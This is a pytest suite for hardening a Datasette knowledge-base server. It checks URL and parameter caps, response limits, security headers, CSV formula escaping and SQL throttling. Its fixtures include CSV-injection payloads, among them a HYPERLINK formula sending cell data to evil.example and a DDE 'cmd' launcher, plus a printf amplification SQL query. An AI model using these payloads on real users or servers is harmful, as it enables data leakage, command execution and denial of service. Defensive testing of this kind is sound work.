"""Hardening of what `kb serve` answers (issue 17): the guard, reopen, csv_formulas and
sqlite_limits plugins in ingest/site/plugins/.

In process through Datasette (the plugin modules Datasette actually registered, patched where a
limit is lowered to keep a test fast) and against a real `kb serve` on loopback. `kb serve` on a
damaged file is covered in test_hardening_db.py (test_kb_serve_on_a_damaged_file_is_one_line).
"""

from __future__ import annotations

import asyncio
import concurrent.futures
import csv
import io
import json
import os
import re
import shutil
import sqlite3
import time
from pathlib import Path
from urllib.parse import quote

import pytest
import requests
from datasette.app import Datasette
from datasette.plugins import pm
from test_datasette_pages import METADATA, PLUGINS, SITE_XML, TEMPLATES, Served, get, load_plugin

from ingest.db import build as builder

SERVE_FIXTURES = Path(__file__).resolve().parent / "fixtures" / "hardening" / "serve"
FORMULA_TITLES = {  # fixtures/hardening/serve/formula_titles.xml: as stored, and as a .csv must show them
    "98000001": ('=HYPERLINK("http://evil.example/?"&A1, "click") ketamine for depression',
                 '\'=HYPERLINK("http://evil.example/?"&A1, "click") ketamine for depression'),
    "98000002": ("+cmd|' /C calc'!A0 ketamine infusion, line one", "'+cmd|' /C calc'!A0 ketamine infusion, line one"),
    "98000003": ("-2+3 esketamine nasal spray in depression", "'-2+3 esketamine nasal spray in depression"),
    "98000004": ("@SUM(1+1) ketamine and suicidal ideation", "'@SUM(1+1) ketamine and suicidal ideation"),
    "98000005": ("-5", "-5"),  # a number keeps its sign
    "98000006": ("Ketamine for pain: a plain title, no formula", "Ketamine for pain: a plain title, no formula"),
}
REPLACEMENT_ID = "98100001"  # the one study of fixtures/hardening/serve/replacement_titles.xml
ATTACK = ("with recursive c(x) as (select 1 union all select x+1 from c limit 100) "
          "select printf('%.*c',9999999,'x') from c")
RUNAWAY = "with recursive c(x) as (select 1 union all select x + 1 from c) select count(*) from c"
TIMEOUT = 10  # seconds, for every request to a real server


def build_kb(folder: Path, *fixtures: str, site: bool = False) -> Path:
    """kb.db (as `kb build --from-dir` makes it) from fixtures/hardening/serve files (and SITE_XML)."""
    inputs = folder / "in"
    inputs.mkdir(parents=True)
    for name in fixtures:
        shutil.copy(SERVE_FIXTURES / name, inputs)
    if site:
        (inputs / "site.xml").write_text(SITE_XML, encoding="utf-8")
    target = folder / "kb.db"
    builder.build(target, builder.collect_dir(inputs), "files", "from-dir")
    return target


def new_datasette(db: Path, **settings) -> Datasette:
    return Datasette(immutables=[str(db)], metadata=METADATA, template_dir=str(TEMPLATES), plugins_dir=str(PLUGINS),
                     settings={"sql_time_limit_ms": 1500, "max_returned_rows": 1000, **settings})


def registered(name: str):
    """The plugin module Datasette runs (the first one registered under ``name.py`` wins)."""
    if pm.get_plugin(f"{name}.py") is None:
        Datasette(memory=True, plugins_dir=str(PLUGINS))  # registers the plugins directory's modules
    module = pm.get_plugin(f"{name}.py")
    assert module is not None and Path(module.__file__) == PLUGINS / f"{name}.py", name
    return module


@pytest.fixture(scope="module")
def kb_db(tmp_path_factory) -> Path:
    return build_kb(tmp_path_factory.mktemp("serve"), "formula_titles.xml", site=True)


@pytest.fixture(scope="module")
def ds(kb_db) -> Datasette:
    datasette = new_datasette(kb_db)
    assert get(datasette, "/-/versions.json").status_code == 200  # started: pages render in full
    return datasette


@pytest.fixture(scope="module")
def guard(ds):
    return registered("guard")


@pytest.fixture(scope="module")
def served(kb_db):
    server = Served(kb_db)
    yield server
    server.stop()


def raw_get(ds: Datasette, url: str):
    """``url`` sent as written (no re-encoding of its query string)."""
    return asyncio.run(ds.client.get(url))


def refusal(response, status: int = 400) -> str:
    """The one-line reason of a JSON refusal."""
    assert response.status_code == status, (response.status_code, response.text[:300])
    error = response.json()["error"]
    assert error and "\n" not in error and len(error) < 300 and "Traceback" not in response.text
    return error


def csv_rows(text: str) -> dict[str, dict]:
    return {row["id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def counting_queries(monkeypatch, ds: Datasette) -> list[int]:
    """Counts every query Datasette runs against kb (its schema refresh on each request included)."""
    db = ds.databases["kb"]
    calls: list[int] = []
    original = db.execute_fn

    async def execute_fn(fn):
        calls.append(1)
        return await original(fn)

    monkeypatch.setattr(db, "execute_fn", execute_fn)
    return calls


# --------------------------------------------------------------------------- 1, 2. bad URLs are 400s


@pytest.mark.parametrize("url", [
    "/kb/studies.json?_where=" + quote("id = '\x00'"),
    "/kb/studies.json?_facet=" + quote("ye\x00ar"),
    "/kb/studies.json?_facet=year&x=%00",
    "/kb/stu%00dies.json",
])
def test_a_nul_in_the_url_is_a_400_with_a_one_line_reason(ds, url):
    assert refusal(raw_get(ds, url)) == "NUL characters are not allowed in a URL"


def test_a_nul_on_an_html_page_is_a_400_page(ds):
    response = raw_get(ds, "/kb/stu%00dies?_where=" + quote("\x00"))
    assert response.status_code == 400 and response.headers["content-type"].startswith("text/html")
    assert "NUL characters are not allowed in a URL" in response.text and "Traceback" not in response.text


@pytest.mark.parametrize("params, reason", [
    ({"_sort": "no_such_column"}, "Cannot sort table by no_such_column"),
    ({"_sort_desc": "no_such_column"}, "Cannot sort table by no_such_column"),
    ({"_sort": "id", "_sort_desc": "year"}, "Cannot use _sort and _sort_desc at the same time"),
])
def test_an_impossible_sort_is_a_400_not_a_500(ds, params, reason):
    assert refusal(get(ds, "/kb/studies.json", **params)) == reason
    page = get(ds, "/kb/studies", **params)
    assert page.status_code == 400 and reason in page.text
    assert get(ds, "/kb/studies.json", _sort="year").status_code == 200  # a possible one still sorts


# --------------------------------------------------------------------------- 3. parameter caps


def test_an_over_long_value_is_refused_before_any_sql_runs(ds, guard, monkeypatch):
    queries = counting_queries(monkeypatch, ds)
    for path, params, name in (("/kb/search.json", {"q": "ketamine " * 4000}, "q"),  # 36 kB
                               ("/kb.json", {"sql": "select 1 -- " + "x" * guard.MAX_SQL_CHARS}, "sql"),
                               ("/kb/studies.json", {"_where": "1 = 1 or " * 300}, "_where")):
        started = time.monotonic()
        error = refusal(get(ds, path, **params))
        assert time.monotonic() - started < 1, name
        assert error.startswith(f"parameter {name!r} is ") and "characters long" in error
    assert queries == []
    # A normal canned query still runs (and is counted: the counter sees Datasette's queries).
    found = get(ds, "/kb/search.json", q="ketamine", _shape="array").json()
    assert {row["study_id"] for row in found} >= set(FORMULA_TITLES) - {"98000005"}
    assert queries
    # The longest value accepted is accepted.
    assert get(ds, "/kb.json", sql="select 1 --" + "x" * (guard.MAX_SQL_CHARS - 11)).status_code == 200


def test_more_than_max_parameters_is_a_400(ds, guard, monkeypatch):
    queries = counting_queries(monkeypatch, ds)
    many = "&".join(f"p{i}=1" for i in range(guard.MAX_PARAMETERS + 1))
    assert refusal(raw_get(ds, f"/kb/search.json?q=ketamine&{many}")) == \
        f"more than {guard.MAX_PARAMETERS} query parameters"
    assert queries == []
    enough = "&".join(f"p{i}=1" for i in range(guard.MAX_PARAMETERS - 1))
    assert raw_get(ds, f"/kb/search.json?q=ketamine&{enough}").status_code == 200


def test_an_over_long_path_is_a_400(ds, guard):
    error = refusal(raw_get(ds, "/kb/" + "s" * guard.MAX_PATH_CHARS + ".json"))
    assert error == f"the URL path is longer than {guard.MAX_PATH_CHARS:,} characters"


# --------------------------------------------------------------------------- 4, 5. response size


def test_a_response_over_the_byte_cap_is_a_400_or_cut(ds, guard, monkeypatch, capsys):
    full_json = get(ds, "/kb/studies.json", _size="max", _offtopic="1")
    full_csv = get(ds, "/kb/studies.csv", _size="max")
    assert full_json.status_code == full_csv.status_code == 200
    limit = 3_000
    assert len(full_json.content) > limit and len(full_csv.content) > limit
    # guard reads MAX_RESPONSE_BYTES on every request: lowering it on the module Datasette runs is the cap.
    monkeypatch.setattr(guard, "MAX_RESPONSE_BYTES", limit)
    error = refusal(get(ds, "/kb/studies.json", _size="max", _offtopic="1"))
    assert error.startswith(f"response too big: more than {limit:,} bytes")
    # A CSV goes out row by row: once started it is cut, with a last line saying why.
    cut = get(ds, "/kb/studies.csv", _size="max")
    assert cut.status_code == 200 and len(cut.content) < len(full_csv.content)
    assert cut.text.endswith(f"\nresponse too big: more than {limit:,} bytes (ask for fewer rows or columns, "
                             "or download the database)\n")
    # A streamed CSV and the database download are bounded by kb.db itself.
    assert get(ds, "/kb/studies.csv", _stream="1").text == full_csv.text
    download = get(ds, "/kb.db")
    assert download.status_code == 200 and len(download.content) > limit
    assert "Traceback" not in capsys.readouterr().err  # a refusal, not a server fault


def test_a_result_over_the_row_budget_fails_fast(ds):
    # 40 rows of 1 MB: past sqlite_limits.MAX_RESULT_BYTES (32 MB) before Datasette holds them all.
    started = time.monotonic()
    response = get(ds, "/kb.json", sql="with recursive c(x) as (select 1 union all select x+1 from c limit 40) "
                                       "select randomblob(999999) from c", _shape="array")
    assert "query result too big" in refusal(response)
    assert time.monotonic() - started < 5 and len(response.content) < 5_000


def test_the_row_budget_counts_every_row_of_a_cursor():
    limits = load_plugin("sqlite_limits")
    conn = sqlite3.connect(":memory:")
    conn.row_factory = limits.budgeted_rows(100)
    assert conn.execute("select 'x' || ?", ["y" * 98]).fetchall()[0][0] == "x" + "y" * 98  # 99: within
    with pytest.raises(limits.ResultTooBig, match="more than 100 bytes"):
        conn.execute("select printf('%.30c', 'x') from (select 1 union all select 2 union all select 3 "
                     "union all select 4)").fetchall()
    assert len(conn.execute("select printf('%.30c', 'x') union all select 'y'").fetchall()) == 2  # a new cursor


@pytest.mark.parametrize("where", ["in process", "kb serve"])
def test_the_printf_amplification_attack_is_a_fast_small_400(ds, served, where):
    url = "/kb.json?_shape=array&sql=" + quote(ATTACK)
    started = time.monotonic()
    if where == "in process":
        response = raw_get(ds, url)
    else:
        response = requests.get(served.base + url, timeout=TIMEOUT)
    elapsed = time.monotonic() - started
    assert response.status_code == 400 and "string or blob too big" in response.text
    assert elapsed < 2, elapsed
    assert len(response.content) < 2_000


# --------------------------------------------------------------------------- 6. security headers


@pytest.mark.parametrize("path, kind", [
    ("/", "text/html"),
    ("/kb/studies/98000001", "text/html"),
    ("/kb/studies.json", "application/json"),
    ("/kb/studies.csv", "text/plain"),
    ("/kb/studies.csv?_stream=1", "text/plain"),
    ("/kb.json?sql=select+1", "application/json"),
    ("/kb/studies.json?_where=%00", "application/json"),  # a refusal has them too
    ("/kb/no_such_table", "text/html"),
    ("/-/dashboards/overview", "text/html"),
])
def test_every_answer_has_the_security_headers(served, guard, path, kind):
    response = requests.get(served.base + path, timeout=TIMEOUT)
    assert response.headers["content-type"].startswith(kind), response.headers
    dashboards = path.startswith("/-/dashboards")
    assert response.headers["content-security-policy"] == (guard.CSP_DASHBOARDS if dashboards else guard.CSP)
    csp = response.headers["content-security-policy"]
    assert ("'unsafe-eval'" in csp) == dashboards
    assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "object-src 'none'" in csp
    assert not re.search(r"https?:|\*", csp)  # no other site's scripts, styles or fetches
    assert response.headers["x-frame-options"] == "DENY"
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["referrer-policy"] == "same-origin"


# --------------------------------------------------------------------------- 7. CSV exports


@pytest.mark.parametrize("params", [{"_size": "max"}, {"_stream": "1"}, {"_size": "2", "_sort": "id"}])
def test_a_formula_in_a_title_is_text_in_the_csv(ds, params):
    response = get(ds, "/kb/studies.csv", **params)
    assert response.status_code == 200
    rows = csv_rows(response.text)
    for study_id, (_, shown) in FORMULA_TITLES.items():
        if study_id in rows:
            assert rows[study_id]["title"] == shown, study_id
            assert rows[study_id]["journal"] == "'=Journal of Formula Injection"
            assert rows[study_id]["year"] == "2023"
    assert set(rows) == {"98000001", "98000002"} if "_sort" in params else set(FORMULA_TITLES) <= set(rows)
    assert not re.search(r'(^|,)"?[=+@]', response.text, re.MULTILINE)


def test_a_streamed_csv_from_kb_serve_is_safe_too(served):
    response = requests.get(f"{served.base}/kb/studies.csv", params={"_stream": "1"}, timeout=TIMEOUT)
    assert response.status_code == 200
    rows = csv_rows(response.text)
    assert {study_id: rows[study_id]["title"] for study_id in FORMULA_TITLES} == \
        {study_id: shown for study_id, (_, shown) in FORMULA_TITLES.items()}


def test_a_query_csv_quotes_formulas_and_keeps_numbers(ds):
    sql = ("select -5 as n, '-5' as s, '=1+1' as f, '+1.5e3' as e, 'a,=b' as g, '@x' as a, "
           "char(9) || 'x' as tab, '- dash' as d, 'plain' as p")
    response = get(ds, "/kb.csv", sql=sql)
    assert response.status_code == 200
    assert response.text.splitlines() == ["n,s,f,e,g,a,tab,d,p", "-5,-5,'=1+1,+1.5e3,\"a,=b\",'@x,'\tx,'- dash,plain"]
    # JSON and HTML are not opened by spreadsheets: left as stored.
    record = get(ds, "/kb/studies/98000001.json", _shape="array").json()[0]
    assert record["title"] == FORMULA_TITLES["98000001"][0]
    assert get(ds, "/kb.json", sql="select '=1+1' as f", _shape="array").json() == [{"f": "=1+1"}]


CSV_IN = ('id,title,n\r\n'
          '1,"=HYPERLINK(""http://x/?""&A1, ""é"")",-5\r\n'
          '2,"line one\n=line two",+3\r\n'
          '3,"@a\r\nb",x\r\n'
          '4,plain,-2e3\r\n'
          '5,-,"-"\r\n'
          '6,"é, ""q""",=x')  # the last record has no line ending
CSV_OUT = ('id,title,n\r\n'
           '1,"\'=HYPERLINK(""http://x/?""&A1, ""é"")",-5\r\n'
           '2,"line one\n=line two",+3\r\n'
           '3,"\'@a\r\nb",x\r\n'
           '4,plain,-2e3\r\n'
           "5,'-,'-\r\n"
           '6,"é, ""q""",\'=x')


def test_safe_record_quotes_only_formula_cells():
    plugin = load_plugin("csv_formulas")
    plain = "1,plain text,5,\"a, \"\"b\"\"\"\r\n"
    assert plugin.safe_record(plain) is plain  # nothing that starts like a formula: not even parsed
    assert plugin.safe_record('1,-5,"x ""y"", z",+1.5e3\r\n') == '1,-5,"x ""y"", z",+1.5e3\r\n'
    assert plugin.safe_record("=a,b,-1\n") == "'=a,b,-1\n"
    assert plugin.safe_record("x,@a\r\n") == "x,'@a\r\n"
    assert plugin.safe_record("x,+a") == "x,'+a"  # no line ending: none added
    assert plugin.safe_record('1,"q, =x",+3\r\n') == '1,"q, =x",+3\r\n'  # "=" inside a cell is harmless
    assert plugin.safe_record('1,"=a\nb"\r\n') == '1,"\'=a\nb"\r\n'


def test_csv_records_are_whole_however_the_text_is_cut():
    plugin = load_plugin("csv_formulas")
    whole = plugin.CsvRecords().feed(CSV_IN, final=True)
    assert whole[2] == '2,"line one\n=line two",+3\r\n' and whole[3] == '3,"@a\r\nb",x\r\n' and len(whole) == 7
    for cut in range(len(CSV_IN) + 1):
        records = plugin.CsvRecords()
        out = records.feed(CSV_IN[:cut]) + records.feed(CSV_IN[cut:], final=True)
        assert out == whole, cut
        assert "".join(plugin.safe_record(r) for r in out) == CSV_OUT
    records = plugin.CsvRecords()
    one_by_one = [r for char in CSV_IN for r in records.feed(char)] + records.feed("", final=True)
    assert one_by_one == whole


def run_send(send_wrapper, content_type: bytes, chunks: list[bytes]) -> tuple[dict, bytes]:
    events: list[dict] = []

    async def send(event):
        events.append(event)

    async def main():
        send_safe = send_wrapper(send)
        await send_safe({"type": "http.response.start", "status": 200,
                         "headers": [(b"content-type", content_type), (b"content-length", b"999")]})
        for number, chunk in enumerate(chunks):
            await send_safe({"type": "http.response.body", "body": chunk, "more_body": number < len(chunks) - 1})

    asyncio.run(main())
    return events[0], b"".join(e["body"] for e in events[1:])


def test_formula_safe_rewrites_a_csv_body_cut_anywhere_even_inside_a_character():
    plugin = load_plugin("csv_formulas")
    data, expected = CSV_IN.encode(), CSV_OUT.encode()
    for cut in range(len(data) + 1):
        start, body = run_send(plugin.formula_safe, b"text/plain; charset=utf-8", [data[:cut], data[cut:]])
        assert body == expected, cut
    assert b"content-length" not in dict(start["headers"])
    start, body = run_send(plugin.formula_safe, b"text/csv", [bytes([b]) for b in data])
    assert body == expected
    # Not CSV: untouched, its length too.
    start, body = run_send(plugin.formula_safe, b"application/json", [b'{"t": "=1+1",', b'"n": -5}'])
    assert body == b'{"t": "=1+1","n": -5}' and dict(start["headers"])[b"content-length"] == b"999"


# --------------------------------------------------------------------------- 8. hand-written SQL slots


def test_sql_slots_queue_then_refuse_with_retry_after():
    guard = load_plugin("guard")

    async def scenario():
        slots = guard.SqlSlots(1, 0.2)
        async with slots.slot():
            started = time.monotonic()
            with pytest.raises(guard.RequestRefused) as refused:
                async with slots.slot():
                    pass
            waited = time.monotonic() - started
        async with slots.slot():  # released: the next one gets it at once
            pass
        return refused.value, waited

    refused, waited = asyncio.run(scenario())
    assert refused.status == 503 and refused.message.startswith("busy: 1 hand-written SQL queries are running")
    assert (b"retry-after", str(guard.RETRY_AFTER_SECONDS).encode()) in refused.headers
    assert 0.15 < waited < 2

    class Settings:
        def __init__(self, threads):
            self.threads = threads

        def setting(self, name):
            assert name == "num_sql_threads"
            return self.threads

    assert guard.sql_slots(Settings(8), cpus=2).slots == 1  # one CPU left for the pages
    assert guard.sql_slots(Settings(32), cpus=8).slots == 7
    assert guard.sql_slots(Settings(3), cpus=8).slots == 1  # two threads left for the pages
    assert guard.sql_slots(Settings(8), cpus=2).wait == guard.QUEUE_SECONDS


def chart_sql(html: str) -> dict[str, str]:
    """The SQL each chart of a dashboard page fetches (dashboards.js sends ``chart.query``)."""
    charts, decoder = {}, json.JSONDecoder()
    for match in re.finditer(r"renderChart\('([\w-]+)', ", html):
        chart, _ = decoder.raw_decode(html, match.end())
        charts[match.group(1)] = chart["query"]
    return charts


def test_a_hand_written_query_waits_for_a_slot_while_pages_answer(kb_db, monkeypatch):
    guard = registered("guard")
    # The slots are made when Datasette builds its app: one slot, a short wait, for this instance.
    monkeypatch.setattr(guard, "sql_slots", lambda datasette, cpus=None: guard.SqlSlots(1, 0.3))
    ds = new_datasette(kb_db, sql_time_limit_ms=1200, num_sql_threads=4)
    assert get(ds, "/-/versions.json").status_code == 200
    page = get(ds, "/-/dashboards/overview", drug="ketamine", year_from="2000")
    charts = chart_sql(page.text)
    assert len(charts) == len(METADATA["plugins"]["datasette-dashboards"]["overview"]["charts"])

    async def scenario():
        async def fetch(delay, url, params=None):
            await asyncio.sleep(delay)
            started = time.monotonic()
            response = await ds.client.get(url, params=params)
            return response, time.monotonic() - started, time.monotonic()

        runaway = asyncio.create_task(fetch(0, "/kb.json", {"sql": RUNAWAY}))
        others = [fetch(0.2, "/kb.json", {"sql": "select 1"}),
                  fetch(0.2, "/kb/studies.json", {"_where": "1 = 1"}),
                  fetch(0.2, "/kb.json", {"sql": RUNAWAY}),
                  fetch(0.2, "/kb/studies/98000001"),
                  fetch(0.2, "/kb/search.json", {"q": "ketamine"}),
                  *(fetch(0.2, "/kb.json", {"sql": sql, "drug": "ketamine", "year_from": "2000", "_shape": "objects"})
                    for sql in charts.values())]
        done = await asyncio.gather(*others)
        return await runaway, done

    (runaway, _, runaway_done), done = asyncio.run(scenario())
    assert runaway.status_code == 400 and "too long" in runaway.text
    (sql, sql_time, _), (where, _, _), (slow, slow_time, _), *pages = done
    # Cheap hand-written queries are answered in the quick lane without waiting for the slot...
    for cheap in (sql, where):
        assert cheap.status_code == 200, cheap.text[:300]
    assert sql.json()["rows"] == [[1]] and sql_time < 0.25
    # ...one that needs longer than the quick lane's limit waits for the slot, and is refused.
    assert slow.status_code == 503, slow.text[:300]
    assert slow.headers["retry-after"] == str(guard.RETRY_AFTER_SECONDS)
    assert slow.json()["error"].startswith("busy: 1 hand-written SQL queries are running")
    assert 0.25 < slow_time < 1.5
    # The study page, the canned search and the dashboard's own charts do not wait for the slot.
    for response, _, finished in pages:
        assert response.status_code == 200, (str(response.url)[:200], response.text[:300])
        assert finished < runaway_done
    assert get(ds, "/kb.json", sql="select 1").status_code == 200  # the slot is free again


def test_dashboard_chart_queries_are_not_hand_written():
    guard = load_plugin("guard")

    class Dashboards:
        @staticmethod
        def plugin_config(name):
            return METADATA["plugins"].get(name)

    trusted = guard.chart_queries(Dashboards())
    chart = METADATA["plugins"]["datasette-dashboards"]["overview"]["charts"]["by-indication"]["query"]
    assert "[[" in chart
    from datasette_dashboards import replace_opts_in_query

    for options in ({}, {"drug": "ketamine"}, {"year_from": "2000", "year_to": "2020"},
                    {"drug": "ketamine", "year_from": "2000", "year_to": "2020"}, {"drug": ""}):
        sent = replace_opts_in_query(chart, options)
        assert not guard.hand_written_sql([("sql", sent), *options.items()], trusted), options
    assert guard.hand_written_sql([("sql", chart + " ")], trusted)
    assert guard.hand_written_sql([("sql", "select 1")], trusted)
    assert guard.hand_written_sql([("_where", "1 = 1")], trusted)
    assert not guard.hand_written_sql([("q", "select 1")], trusted)


# --------------------------------------------------------------------------- 9. reopen


def study_ids(base: str, **params) -> set[str]:
    response = requests.get(f"{base}/kb/studies.json", params={"_shape": "array", "_col": "id", "_size": "max",
                                                                "_offtopic": "1", **params}, timeout=TIMEOUT)
    assert response.status_code == 200, response.text[:300]
    return {row["id"] for row in response.json()}


def many_at_once(base: str, count: int = 24) -> list[set[str] | str]:
    """``count`` requests at once: more than kb serve's SQL threads, so every thread answers some."""
    def one(number):
        try:
            return study_ids(base, _n=str(number))
        except (AssertionError, requests.RequestException) as exc:
            return f"{type(exc).__name__}: {str(exc)[:200]}"

    with concurrent.futures.ThreadPoolExecutor(count) as pool:
        return list(pool.map(one, range(count)))


def test_kb_serve_follows_a_replaced_kb_db_and_keeps_serving_when_the_replacement_is_bad(tmp_path):
    first = build_kb(tmp_path / "first", "formula_titles.xml")
    second = build_kb(tmp_path / "second", "replacement_titles.xml")
    live = tmp_path / "live"
    live.mkdir()
    shutil.copy(first, live / "kb.db")
    junk = [tmp_path / "junk1.db", tmp_path / "junk2.db"]
    for path in junk:  # a header, then nothing SQLite can read
        path.write_bytes(b"SQLite format 3\x00" + b"\x13" * 8192)
    server = Served(live / "kb.db")
    try:
        # One request at a time reads with few of the SQL threads; the others have not opened kb.db yet.
        assert study_ids(server.base) == set(FORMULA_TITLES)
        # A replacement that cannot be served: the one served at start stays served, in every thread.
        os.replace(junk[0], live / "kb.db")
        time.sleep(1.2)  # reopen looks at the file at most once a second
        assert many_at_once(server.base) == [set(FORMULA_TITLES)] * 24

        os.replace(second, live / "kb.db")  # what `kb build` and `kb import` do
        time.sleep(1.2)
        assert study_ids(server.base) == {REPLACEMENT_ID}
        # Again a bad one: now the new file stays served, also in threads that had not read it yet.
        os.replace(junk[1], live / "kb.db")
        time.sleep(1.2)
        assert many_at_once(server.base) == [{REPLACEMENT_ID}] * 24
        time.sleep(1.2)
        assert study_ids(server.base, _search="ketamine") == {REPLACEMENT_ID}  # checked again, not reported again
        assert requests.get(f"{server.base}/kb/studies/{REPLACEMENT_ID}", timeout=TIMEOUT).status_code == 200
        assert requests.get(f"{server.base}/kb/studies/98000001", timeout=TIMEOUT).status_code == 404
    finally:
        server.process.terminate()
        try:
            _, stderr = server.process.communicate(timeout=10)
        finally:
            server.stop()
    refused = (f"kb serve: {live / 'kb.db'} was replaced by a file that cannot be served (not a readable SQLite "
               "database (file is not a database); rebuild it with `kb build`); still serving the previous one")
    lines = [line for line in stderr.decode().splitlines() if line.startswith("kb serve: ")]
    assert lines == [refused, f"kb serve: {live / 'kb.db'} was replaced; serving the new file", refused], \
        stderr.decode()[-3000:]
    assert "Traceback" not in stderr.decode()


def test_the_quick_lane_sets_its_own_time_limit():
    from urllib.parse import parse_qs

    guard = load_plugin("guard")
    for sent in ("sql=select+'é'&_timelimit=9000".encode(), b"sql=select+%27%C3%A9%27&_timelimit=9000"):
        limited = guard.with_time_limit({"type": "http", "query_string": sent}, guard.QUICK_LANE_MS)
        assert parse_qs(limited["query_string"].decode("ascii")) == {
            "sql": ["select 'é'"], "_timelimit": [str(guard.QUICK_LANE_MS)]}
